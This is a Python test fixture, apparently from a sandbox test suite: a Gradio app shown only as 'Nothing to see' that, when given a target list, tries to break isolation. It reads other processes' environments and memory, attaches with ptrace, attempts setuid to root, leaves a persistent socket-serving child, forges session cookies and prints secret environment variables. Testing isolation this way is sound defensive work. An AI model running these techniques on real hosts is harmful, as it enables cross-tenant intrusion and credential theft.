"""An app whose author means harm: it waits for a list of targets, tries everything on them, and prints what it got.

TARGETS names the file, JSON as ``tests/journeys/test_hostile_apps.py`` writes it.  Each attempt yields what it got, as
text, or raises.
"""

import ctypes
import gc
import http.client
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from base64 import b64encode
from pathlib import Path
from urllib.parse import urlencode

import gradio as gr

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
STAYING = """
import os, select, socket, time
parent = os.getppid()
while os.getppid() == parent:
    time.sleep(0.02)
listening = socket.socket(fileno=3)
while True:
    select.select([listening], [], [])
    try:
        connection, _ = listening.accept()
    except BlockingIOError:
        continue
    connection.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 9\\r\\n\\r\\nstill on!")
"""
"""A program that takes over where the app ended."""


def read(path):
    with open(path, "rb") as file:
        return file.read(200).decode("utf-8", "replace")


def write(path):
    with open(path, "ab"):
        return "opened for writing"


def make(folder):
    made = Path(folder) / "planted"
    made.write_text("x")
    made.unlink()
    return "made a file"


def environment_of(pid):
    return read(f"/proc/{pid}/environ")


def memory_of(pid):
    maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
    begin = int(next(line for line in maps if " rw-p " in line).partition("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(begin)
        return f"{len(memory.read(64))} bytes"


def descriptors_of(pid):
    return ", ".join(os.listdir(f"/proc/{pid}/fd"))


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    # It has to stand still to be let go.
    libc.ptrace(0x4207, pid, None, None)
    os.waitpid(pid, 0x40000000)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached"


def signal_to(pid):
    os.kill(pid, 0)
    return "may be sent signals"


def ask_supervisor(path):
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(f"/proc/self/fd/{folder}/{os.path.basename(path)}")
        connection.sendall(b'{"do": "list"}\n')
        answer = json.loads(connection.makefile().readline())
        if not answer["ok"]:
            raise PermissionError(answer["problem"])
        return "answered"


def become_root():
    for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.seteuid(0), lambda: os.setgid(0)):
        try:
            change()
        except OSError:
            continue
        return f"became {os.getresuid()}, {os.getresgid()}"
    raise PermissionError("nothing worked")


def inherited():
    """Files and folders that this process has open, and did not open itself: by the paths they have."""
    found = set()
    for name in os.listdir("/proc/self/fd"):
        try:
            status, path = os.stat(f"/proc/self/fd/{name}"), os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if stat.S_ISREG(status.st_mode) or stat.S_ISDIR(status.st_mode):
            found.add(path)
    return sorted(found)


def guard_settings():
    """Find the guard's settings among all objects of the process.

    No other thread runs meanwhile: ``gc.get_objects`` also hands out tuples that a thread is still filling, and before
    CPython 3.14 (its issue 127058) that thread then fails with SystemError.
    """
    usual = sys.getswitchinterval()
    sys.setswitchinterval(60)
    try:
        time.sleep(0.02)  # a thread that waits already has the usual interval: let it run until it waits anew
        return next(one for one in gc.get_objects() if type(one).__name__ == "GuardSettings")
    finally:
        sys.setswitchinterval(usual)


def asked(port, host, path, headers, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    connection.request("GET" if body is None else "POST", path, body=body, headers={"Host": host, **headers})
    answer = connection.getresponse()
    return answer.status, answer.read().decode("utf-8", "replace")


def forge_session(victim):
    """A cookie for the other app, sealed with the secret of this one."""
    from gradio_apps.runtime.guard.cookies import CookieSeal

    sealed = CookieSeal(guard_settings()).seal("0123456789abcdef")
    status, text = asked(victim["port"], victim["host"], "/config", {"Cookie": f"{victim['cookie']}={sealed}"})
    if status != 200:
        raise PermissionError(f"{status}")
    return text


def introspect(portal, app, sid):
    """Ask the portal about somebody else's session, as the app *app*, with this app's secret."""
    said = b64encode(f"{app}:{guard_settings().secret}".encode()).decode()
    status, text = asked(
        portal["port"],
        portal["host"],
        "/oauth/introspect",
        {"Authorization": f"Basic {said}", "Content-Type": "application/x-www-form-urlencoded"},
        urlencode({"token": sid, "token_type_hint": "app_session"}),
    )
    if status != 200 or not json.loads(text)["active"]:
        raise PermissionError(f"{status} {text}")
    return text


def attempts(targets):
    portal, victim = targets["portal"], targets["victim"]
    processes = {"portal": portal["pid"], "supervisor": targets["supervisor"], "victim": victim["pid"]}
    for name, path in targets["read"].items():
        yield f"read {name}", lambda path=path: read(path)
    for name, path in targets["write"].items():
        yield f"write {name}", lambda path=path: write(path)
    for name, path in targets["make"].items():
        yield f"make a file in {name}", lambda path=path: make(path)
    for name, pid in processes.items():
        yield f"environment of {name}", lambda pid=pid: environment_of(pid)
        yield f"memory of {name}", lambda pid=pid: memory_of(pid)
        yield f"descriptors of {name}", lambda pid=pid: descriptors_of(pid)
        yield f"trace {name}", lambda pid=pid: trace(pid)
        yield f"signal {name}", lambda pid=pid: signal_to(pid)
    yield "control socket", lambda: ask_supervisor(targets["control"])
    yield "become root", become_root
    yield "own client secret", lambda: f"{len(guard_settings().secret)} characters"
    yield "session of victim, forged", lambda: forge_session(victim)
    yield "session of victim, asked for", lambda: introspect(portal, "victim", victim["session"])
    yield "session of victim, asked for as oneself", lambda: introspect(portal, "hostile", victim["session"])


def tried(attempt):
    try:
        return ["got", attempt()[:100]]
    except Exception as error:
        return ["refused", f"{type(error).__name__}: {error}"]


def be_hostile():
    path = Path(os.environ["TARGETS"])
    before = inherited()
    subprocess.Popen([sys.executable, "-c", STAYING], env={}, pass_fds=(3,), start_new_session=True)
    while not path.exists():
        time.sleep(0.1)
    status = Path("/proc/self/status").read_text()
    facts = {
        "inherited": before,
        "ids": [os.getresuid(), os.getresgid(), os.getgroups()],
        "status": {line.partition(":")[0]: line.partition(":")[2].strip() for line in status.splitlines()},
        "environment": dict(os.environ),
        "umask": os.umask(0o077),
        "session": os.getsid(0) == os.getpid(),
        "tried": {name: tried(attempt) for name, attempt in attempts(json.loads(path.read_text()))},
    }
    print("HOSTILE " + json.dumps(facts), flush=True)


print("begun with", os.environ.get("MODEL_KEY"), os.environ.get("FILE_SECRET"), flush=True)
if "TARGETS" in os.environ:
    threading.Thread(target=be_hostile, daemon=True).start()

with gr.Blocks() as demo:
    gr.Markdown("Nothing to see")
demo.launch()
